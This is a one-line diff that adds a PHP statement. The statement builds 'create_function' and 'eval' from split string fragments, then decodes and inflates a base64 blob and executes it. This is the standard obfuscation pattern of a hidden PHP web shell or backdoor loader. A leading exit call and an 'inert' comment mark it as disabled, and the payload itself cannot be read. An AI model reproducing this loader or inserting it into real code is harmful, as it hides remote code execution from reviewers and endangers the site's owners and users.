@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $f='cr'.'eat'.'e_fun'.'cti'.'on'; $x=$f('$c','e'.'v'.'al'.'("?>".gz'.'inf'.'late(bas'.'e64'.'_de'.'co'.'de($c)));'); $x("s7EvyChQSE3OyFcozkjNyYlPrUhN1lCJd3cNiVYqVIrVtFawtwMA");
